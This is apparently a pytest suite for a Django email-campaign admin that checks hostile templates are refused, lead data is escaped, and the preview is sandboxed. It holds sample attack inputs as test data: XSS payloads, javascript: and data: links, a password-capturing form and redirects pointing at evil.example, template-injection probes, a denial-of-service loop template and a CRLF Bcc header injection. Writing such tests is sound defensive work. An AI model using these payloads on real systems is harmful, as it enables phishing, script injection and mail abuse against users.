"""Campaign templates are data: each attack a staff user with only campaign rights could write is
refused at save with its reason, through the real admin views; a row that got around the save is
refused by preview and launch with a message, never a 500 or minutes of work; a lead's HTML reaches
the SMTP server escaped; the preview shows a sample lead to a user who may not view leads, under a
policy that loads no image from anywhere."""
import html
import time

import pytest
from django.contrib.auth.models import Permission, User
from django.contrib.messages import get_messages

from emails.models import Campaign, Message
from tests.emails.helpers import make_lead, run_due_email_jobs

pytestmark = pytest.mark.django_db(transaction=True)
ADD, CHANGELIST = "/admin/emails/campaign/add/", "/admin/emails/campaign/"
NESTED_LOOPS = '{% for a in "abcdefghij" %}' * 7 + "{{ first_name }}" + "{% endfor %}" * 7  # 10**7 bodies

# (which part, the attacker's template, what the refusal must say)
ATTACKS = [
    ("text_template", NESTED_LOOPS, "line 1, column 1: tags are not part of the campaign template language"),
    ("text_template", "Hi\n  {% lorem 200000 w %}", "line 2, column 3: tags are not part of"),
    ("text_template", "{% load log %}{% get_admin_log 10 as log %}", "{% load log %}"),
    ("subject_template", "{{ lead.save }}", "unknown field 'lead.save'"),
    ("text_template", "{{ first_name.upper.__class__ }}", "unknown field 'first_name.upper.__class__'"),
    ("html_template", "<p>{{ first_name|safe }}</p>", "unknown filter 'safe'"),
    ("html_template", "<p>Hi</p>\n<script>alert(1)</script>", "line 2, column 1: <script> is not allowed"),
    ("html_template", '<img src="https://cdn.example/a.png" onerror="alert(1)">', "event handler onerror="),
    ("html_template", '<a href="javascript:alert(1)">x</a>', "javascript: links are not allowed"),
    ("html_template", '<a href=" java&#x09;script:alert(1)">x</a>', "javascript: links are not allowed"),
    ("html_template", '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "data: links are not allowed"),
    ("html_template", '<form action="https://evil.example/"><input name="pw"></form>', "<form> is not allowed"),
    ("html_template", '<iframe src="https://evil.example/"></iframe>', "<iframe> is not allowed"),
    ("html_template", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "a refresh or redirect"),
    ("html_template", '<object data="https://evil.example/x.swf"></object>', "<object> is not allowed"),
    ("html_template", '<embed src="https://evil.example/x.swf">', "<embed> is not allowed"),
    ("html_template", '<p style="background-image: url(https://evil.example/b.gif)">x</p>', "url(), expression()"),
    ("html_template", '<p style="width: expression(alert(1))">x</p>', "url(), expression()"),
    ("html_template", "<style>p { color: red }</style>", "<style> is not allowed"),
    ("html_template", '<a href="{{ website }}">your site</a>', "the lead's data cannot be a link"),
]


def staff(client, *codenames: str, username: str = "campaigner") -> User:
    """A staff user with campaign rights only (and whatever else is named: "leads.view_lead")."""
    user = User.objects.create_user(username, password="x", is_staff=True)
    perms = [Permission.objects.get(content_type__app_label=name.split(".")[0], codename=name.split(".")[1])
             for name in ("emails.view_campaign", "emails.add_campaign", "emails.change_campaign",
                          "emails.launch_campaign", *codenames)]
    user.user_permissions.add(*perms)
    client.force_login(user)
    return user


def form(**templates: str) -> dict[str, str]:
    return {"name": "Spring", "audience": "qualified", "subject_template": "News for {{ company }}",
            "text_template": "Hi {{ first_name }}, see {{ site_url }}",
            "html_template": '<p>Hi {{ first_name }}, <a href="{{ site_url }}">your site</a></p>', **templates}


def texts(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


@pytest.mark.parametrize("field, template, reason", ATTACKS, ids=[f"{a[0]}:{a[1][:30]}" for a in ATTACKS])
def test_each_attack_is_refused_at_save_with_its_reason(client, field, template, reason):
    staff(client)
    started = time.monotonic()
    response = client.post(ADD, form(**{field: template}))
    assert time.monotonic() - started < 2
    assert response.status_code == 200, "saved, or not answered with the form and its errors"
    assert reason in html.unescape(response.content.decode())
    assert not Campaign.objects.exists()


def test_a_safe_html_template_is_saved_sanitised_with_its_substitutions_as_written(client):
    staff(client)
    source = ('<!doctype html><html><head><meta charset="utf-8"><title>News</title></head><body>\n'
            '<p style="color: #333; font-weight: bold" title="{{ first_name|default:"friend" }}">Hi {{ first_name }}'
            ' &amp; team, <a href="{{ site_url }}">your site</a>, <a href="https://agency.example/offer">offer</a>'
            '</p>\n<!-- {{ company }} --></body></html>')
    response = client.post(ADD, form(html_template=source))
    assert response.status_code == 302, response.content.decode()[-3000:]
    stored = Campaign.objects.get().html_template
    assert stored.strip() == (
        '<p style="color:#333;font-weight:bold" title="{{ first_name|default:"friend" }}">Hi {{ first_name }} &amp; '
        'team, <a href="{{ site_url }}" rel="noopener noreferrer">your site</a>, '
        '<a href="https://agency.example/offer" rel="noopener noreferrer">offer</a></p>')


# --- what got around the save: preview and launch refuse it, quickly, with the reason ------------

@pytest.mark.parametrize("template", [NESTED_LOOPS, "{% load log %}{% get_admin_log 10 as log %}{{ log }}",
                                      "{% lorem 200000 w %}"], ids=["nested loops", "load log", "lorem"])
def test_a_hostile_row_is_refused_by_preview_and_launch_never_a_500(client, redis_client, template):
    make_lead("jane@acme.io")
    c = Campaign.objects.create(name="Hostile", audience="qualified", subject_template="Hi",
                                text_template=template)  # written around the admin's check
    staff(client, "leads.view_lead")
    started = time.monotonic()
    preview = client.post(CHANGELIST, {"action": "preview_campaign", "_selected_action": [c.pk]}, follow=True)
    sandboxed = client.get(f"/admin/emails/campaign/{c.pk}/preview/html")
    launch = client.post(CHANGELIST, {"action": "launch_campaigns", "_selected_action": [c.pk]}, follow=True)
    assert time.monotonic() - started < 2
    assert preview.status_code == sandboxed.status_code == launch.status_code == 200
    assert any("template error: text template, line 1, column 1: tags are not part" in t for t in texts(preview))
    assert b"template error: text template, line 1, column 1" in sandboxed.content
    assert any("not launched, template error" in t for t in texts(launch))
    assert Campaign.objects.get().status == "draft" and not Message.objects.exists()


# --- a real send: the lead's HTML arrives escaped ---------------------------------------------------

def test_a_leads_html_reaches_the_smtp_server_escaped(client, smtp_sink, redis_client):
    hostile = '<img src=x onerror=alert(1)>'
    make_lead("jane@acme.io", first_name=hostile, company="Acme\u202e\r\nBcc: all@evil.example")
    staff(client)
    refused = client.post(ADD, form(html_template="<p>{{ first_name|safe }}</p>"))
    assert "unknown filter" in refused.content.decode() and not Campaign.objects.exists()
    assert client.post(ADD, form(html_template='<p title="{{ first_name }}">Hi {{ first_name|upper }}</p>'),
                       ).status_code == 302
    c = Campaign.objects.get()
    client.post(CHANGELIST, {"action": "launch_campaigns", "_selected_action": [c.pk]})
    run_due_email_jobs()

    [received] = smtp_sink.to("jane@acme.io")
    html_part = received.get_body(("html",)).get_content()
    text = received.get_body(("plain",)).get_content()
    assert '<img src=x' not in html_part and '<IMG SRC=X' not in html_part
    assert 'title="&lt;img src=x onerror=alert(1)&gt;"' in html_part and "Hi &lt;IMG SRC=X ONERROR=ALERT(1)&gt;" in html_part
    assert f"Hi {hostile}, see" in text  # the text part is plain: nothing there is markup
    assert received["Subject"] == "News for Acme Bcc: all@evil.example" and received["Bcc"] is None


# --- the preview ---------------------------------------------------------------------------------

def preview_of(client, c: Campaign) -> tuple[str, str]:
    page = client.post(CHANGELIST, {"action": "preview_campaign", "_selected_action": [c.pk]})
    sandboxed = client.get(f"/admin/emails/campaign/{c.pk}/preview/html")
    return page.content.decode(), sandboxed.content.decode()


def test_the_preview_shows_a_sample_lead_to_a_user_who_may_not_view_leads(client):
    make_lead("realperson@acme.io", first_name="Realname", company="Secretco")
    c = Campaign.objects.create(**form())
    staff(client)
    page, sandboxed = preview_of(client, c)
    assert "Realname" not in page + sandboxed and "Secretco" not in page + sandboxed
    assert "News for Example Ltd" in page and "Hi Jane" in sandboxed and "you may not view leads" in page

    client.logout()
    staff(client, "leads.view_lead", username="lead-viewer")
    page, sandboxed = preview_of(client, c)
    assert "News for Secretco" in page and "Hi Realname" in sandboxed


def test_the_preview_policy_lets_only_data_images_load(client):
    c = Campaign.objects.create(**form(html_template='<p><img src="https://beacon.example/p.gif" alt=""></p>'))
    staff(client)
    response = client.get(f"/admin/emails/campaign/{c.pk}/preview/html")
    policy = [d.strip() for d in response["Content-Security-Policy"].split(";")]
    assert policy[0] == "sandbox" and "default-src 'none'" in policy
    assert [d for d in policy if d.startswith("img-src")] == ["img-src data:"]
